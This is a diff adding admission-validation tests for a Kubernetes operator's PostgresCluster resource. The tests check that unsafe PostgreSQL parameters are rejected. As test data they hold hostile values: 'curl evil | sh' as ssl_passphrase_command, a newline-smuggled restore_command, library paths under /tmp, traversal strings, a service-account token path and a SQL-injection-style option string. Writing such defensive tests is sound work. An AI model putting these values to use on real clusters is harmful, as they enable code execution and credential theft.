@@ -4,6 +4,7 @@ import { after, before, describe, it } from 'node:test';
 import { fileURLToPath } from 'node:url';
 import { InvalidError, type KubeClient, type KubeObject } from '@kanri/client';
 import { parse } from 'yaml';
+import { refusedParameter } from '../src/api/parameter-rules.js';
 import { type PostgresCluster, PostgresClusterResource } from '../src/index.js';
 import { type AdmissionEnv, startAdmissionEnv } from './support/admission-env.js';
 
@@ -235,5 +236,105 @@ describe('PostgresCluster admission against a real API server', () => {
       users: [{ name: 'app', options: 'SUPERUSER; DROP TABLE x; --' }],
     });
     assert.match(message, /spec\.users\[0\]\.options/);
+  });
+
+  it('refuses parameters that read or write files, or load or run code, at a place the spec names, each saying why', async () => {
+    const spec = (parameters: Record<string, unknown>) => ({
+      postgresVersion: 15,
+      instances: [{ dataVolumeClaimSpec: volume }],
+      config: { parameters },
+    });
+    const refusals: [Record<string, unknown>, RegExp][] = [
+      [{ include: '/etc/passwd' }, /include, include_dir, include_if_exists would read another file as configuration/],
+      [{ include_dir: '/tmp' }, /would read another file as configuration/],
+      [{ include_if_exists: '/pgdata/evil.conf' }, /would read another file as configuration/],
+      [
+        { archive_library: 'basic_archive' },
+        /load shared libraries.*\(archive_library would also replace the pgBackRest archive/,
+      ],
+      [
+        { dynamic_library_path: '/pgdata' },
+        /load shared libraries \(code run inside postgres\) or choose where they are found/,
+      ],
+      [{ jit_provider: '../../../tmp/evil' }, /load shared libraries/],
+      [
+        { shared_preload_libraries: '/tmp/evil.so' },
+        /shared_preload_libraries, session_preload_libraries, local_preload_libraries may list only pg_stat_statements, auto_explain/,
+      ],
+      [{ shared_preload_libraries: 'pg_stat_statements,evil' }, /may list only/],
+      [{ session_preload_libraries: '$libdir/plugins/x' }, /may list only/],
+      [{ local_preload_libraries: 'basic_archive' }, /may list only/],
+      [
+        { log_directory: '/etc' },
+        /log_directory, log_filename, stats_temp_directory, krb_server_keyfile name files or directories/,
+      ],
+      [{ log_filename: '../../x' }, /name files or directories/],
+      [{ krb_server_keyfile: '/var/run/secrets/kubernetes.io/serviceaccount/token' }, /name files or directories/],
+      [{ ssl_crl_file: '/x' }, /ssl_ parameters other than ssl_ciphers, .* name certificate, key, CRL or DH files/],
+      [{ ssl_dh_params_file: '/x' }, /ssl_ parameters other than/],
+      [{ ssl_passphrase_command: 'curl evil | sh' }, /ssl_passphrase_command run shell commands in the instances/],
+      [{ unix_socket_group: 'root' }, /managed by the operator/],
+      [
+        { work_mem: "4MB'\nrestore_command = 'curl evil" },
+        /the value of work_mem holds a control character: a newline would end its line in postgresql\.conf/,
+      ],
+      [{ application_name: 'a\u0000b' }, /the value of application_name holds a control character/],
+    ];
+    for (const [parameters, why] of refusals) {
+      const message = await rejection(spec(parameters));
+      assert.match(message, /spec\.config\.parameters: Invalid value/, JSON.stringify(parameters));
+      assert.match(message, why, JSON.stringify(parameters));
+    }
+    // What stays allowed: PostgreSQL's own preloadable modules and how TLS is spoken.
+    for (const [name, parameters] of [
+      ['preload', { shared_preload_libraries: 'pg_stat_statements, auto_explain', 'pg_stat_statements.track': 'all' }],
+      ['session', { session_preload_libraries: 'auto_explain', 'auto_explain.log_min_duration': '10s' }],
+      ['empty', { shared_preload_libraries: '' }],
+      ['tls', { ssl_min_protocol_version: 'TLSv1.3', ssl_ciphers: 'HIGH:!aNULL' }],
+      ['logs', { log_min_duration_statement: 100, log_line_prefix: '%m [%p] ' }],
+    ] as const)
+      await clusters().create(
+        { metadata: { name, namespace: 'default' }, spec: spec(parameters) } as unknown as PostgresCluster,
+        { dryRun: true },
+      );
+  });
+
+  it('gives the same answers on parameters as the pure check', async () => {
+    const samples: Record<string, unknown>[] = [
+      { shared_preload_libraries: ' pg_stat_statements ,auth_delay ' },
+      { shared_preload_libraries: 'pg_stat_statements,' },
+      { shared_preload_libraries: 1 },
+      { session_preload_libraries: 'pg_prewarm,passwordcheck' },
+      { ssl_ecdh_curve: 'prime256v1' },
+      { ssl_prefer_server_ciphers: 'on' },
+      { ssl: 'off' },
+      { fsync: 'OFF' },
+      { fsync: 'Of' },
+      { full_page_writes: 1 },
+      { max_connections: '0100' },
+      { max_connections: 262_144 },
+      { work_mem: 'a\tb' },
+      { work_mem: 'é' },
+      { 'custom.x': 'y' },
+      { Include: 'x' },
+      { log_destination: 'stderr' },
+      { log_statement: 'all' },
+    ];
+    for (const parameters of samples) {
+      const expected = refusedParameter(parameters) !== undefined;
+      const actual = await clusters()
+        .create(
+          {
+            metadata: { name: 'same', namespace: 'default' },
+            spec: { postgresVersion: 15, instances: [{ dataVolumeClaimSpec: volume }], config: { parameters } },
+          } as unknown as PostgresCluster,
+          { dryRun: true },
+        )
+        .then(
+          () => false,
+          (e: unknown) => e instanceof InvalidError,
+        );
+      assert.equal(actual, expected, JSON.stringify(parameters));
+    }
   });
 });
